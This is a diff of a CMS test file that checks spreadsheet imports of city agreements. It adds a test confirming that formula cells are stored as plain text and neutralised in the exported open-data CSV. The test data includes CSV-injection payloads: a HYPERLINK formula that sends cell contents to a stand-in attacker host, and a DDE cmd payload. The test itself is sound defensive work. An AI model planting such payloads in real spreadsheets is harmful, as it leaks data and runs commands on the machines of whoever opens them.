@@ -14,9 +14,17 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { exportBundle } from '../../cms/bundle/exportBundle.ts'
 import { importBundle } from '../../cms/bundle/importBundle.ts'
 import { importSheets, type SheetImportOptions } from '../../cms/bundle/importSheet.ts'
+import { localizeSheetReason } from '../../cms/i18n/sheetMessages.ts'
+import { readBundle } from '../../content/bundle.ts'
 import { SheetError } from '../../content/sheet/problems.ts'
+import { neutralise, parseCsv, unneutralise } from '../../site/src/lib/openData/csv.ts'
+import { openDataFiles } from '../../site/src/lib/openData/files.ts'
+import { openDataSettings } from '../../site/src/lib/openData/settings.ts'
+import { publicContent } from '../../site/src/lib/publicContent.ts'
 import { cmsBundle, openTestCms, type Staff } from '../support/localCms.ts'
+import type { Json } from '../support/json.ts'
 import { csv, rezip, withClaimedSizes, xlsx, zip, type Rows } from '../support/sheets.ts'
+import { untranslated } from '../support/untranslated.ts'
 
 let payload: Payload
 let staff: Staff
@@ -113,19 +121,9 @@ async function snapshot(): Promise<string> {
   return JSON.stringify({ bundle, media: await count('media'), units: await count('units'), deploys: await count('deploys'), versions })
 }
 
-/** What the tests read of a stored entry (all locales, references populated). */
-interface Stored {
-  [field: string]: unknown
-  title: Record<string, string>
-  summary: Record<string, string>
-  partners: { relationTo: string; value: { slug: string } }[]
-  sectors: { slug: string }[]
-  units: { name: Record<string, string> }[]
-  documents: { file: unknown }[]
-}
-
-const find = async (collection: 'agreements' | 'activities' | 'organizations', slug: string) =>
-  (await payload.find({ collection, where: { slug: { equals: slug } }, locale: 'all', depth: 1, draft: false })).docs[0] as unknown as Stored | undefined
+/** A stored entry as the tests read it: all locales, references populated. */
+const find = async (collection: 'agreements' | 'activities' | 'organizations', slug: string): Promise<Json | undefined> =>
+  (await payload.find({ collection, where: { slug: { equals: slug } }, locale: 'all', depth: 1, draft: false })).docs[0]
 
 describe('a workbook of organisations, agreements and activities', () => {
   it('is checked by a dry run that says what each row would do and writes nothing', async () => {
@@ -146,16 +144,16 @@ describe('a workbook of organisations, agreements and activities', () => {
     expect(report.summary).toMatchObject({ created: 4, updated: 0 })
     const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
     expect(agreement.title).toEqual({ th: 'บันทึกความเข้าใจกรุงเทพมหานคร–ฟูกูโอกะ', en: 'Bangkok–Fukuoka MOU', ja: 'バンコク・福岡覚書' })
-    expect(agreement.partners.map((p) => `${p.relationTo}/${p.value.slug}`)).toEqual(['cities/fukuoka', 'organizations/citynet'])
+    expect(agreement.partners.map((p: Json) => `${p.relationTo}/${p.value.slug}`)).toEqual(['cities/fukuoka', 'organizations/citynet'])
     expect([agreement.signed, agreement.expires, agreement.status, agreement._status]).toEqual(['2006-11-01', '2030', 'in-force', 'published'])
-    expect(agreement.sectors.map((d) => d.slug)).toEqual(['sister-cities', 'urban-planning'])
+    expect(agreement.sectors.map((d: Json) => d.slug)).toEqual(['sister-cities', 'urban-planning'])
     expect(agreement.internalNotes).toBe('บันทึกภายใน\nบรรทัดที่สอง')
     // The file named is the one the media library holds: no second copy.
     expect(agreement.documents[0].file).toMatchObject({ bundlePath: 'docs/mou.pdf' })
     expect((await payload.count({ collection: 'media', where: { filename: { like: 'mou' } } })).totalDocs).toBe(1)
     const activity = (await find('activities', 'fukuoka-visit-2019'))!
     expect(activity.agreement).toMatchObject({ slug: 'bangkok-fukuoka-mou' })
-    expect(activity.units.map((u) => u.name)).toEqual([
+    expect(activity.units.map((u: Json) => u.name)).toEqual([
       { th: 'สำนักการต่างประเทศ', en: 'International Affairs Division' },
       { th: 'สำนักการศึกษา', en: 'Education Department' },
     ])
@@ -208,6 +206,31 @@ describe('a workbook of organisations, agreements and activities', () => {
     const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
     expect(agreement.expires ?? null).toBeNull()
     expect(agreement.title.ko ?? null).toBeNull()
+  })
+})
+
+describe('cells a spreadsheet would run as formulas', () => {
+  it('are stored as the text they are, and reach the open data CSV neutralised, reading back as that text', async () => {
+    const cells = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "=cmd|' /C calc'!A0", '+66 2 224 1234', '-1+1', '@SUM(A1:A9)']
+    const sheet = csv([
+      ['slug', 'title_th', 'title_en', 'kind', 'partners', 'status', 'summary_th'],
+      ...cells.map((cell, i) => [`formula-${i}`, `ทดสอบสูตร ${i}`, cell, 'mou', 'cities/fukuoka', 'in-force', cell]),
+    ])
+    await importFile('agreements.csv', sheet)
+    for (const [i, cell] of cells.entries()) expect((await find('agreements', `formula-${i}`))!.title.en).toBe(cell)
+
+    const out = await mkdtemp(join(tmpdir(), 'bma-sheet-open-data-'))
+    await exportBundle(payload, out)
+    const file = openDataFiles(publicContent(await readBundle(out)), openDataSettings({})).find((f) => f.name === 'agreements.csv')!
+    const [header, ...rows] = parseCsv(file.body)
+    const column = (name: string) => header!.indexOf(name)
+    for (const [i, cell] of cells.entries()) {
+      const row = rows.find((r) => r[column('slug')] === `formula-${i}`)!
+      expect(row[column('title_en')]).toBe(neutralise(cell))
+      expect(row[column('title_en')]!.startsWith("'")).toBe(true)
+      expect(unneutralise(row[column('summary_th')]!)).toBe(cell)
+    }
+    await rm(out, { recursive: true })
   })
 })
 
@@ -266,7 +289,7 @@ describe('bad input is refused with its row, column and reason, and changes noth
         visibility: 'restricted',
         readers: ['someone-else@example.org'],
         _status: 'published',
-      } as never,
+      },
     })
     before = await snapshot()
   })
@@ -510,6 +533,8 @@ describe('bad input is refused with its row, column and reason, and changes noth
       )
       expect(error, 'the file should have been refused').toBeInstanceOf(SheetError)
       for (const pattern of expected) expect((error as SheetError).message).toMatch(pattern)
+      // The same problems, as the import page shows them to Thai staff.
+      expect((error as SheetError).problems.map((problem) => localizeSheetReason(problem.reason, 'th')).filter(untranslated)).toEqual([])
     })
   }
 
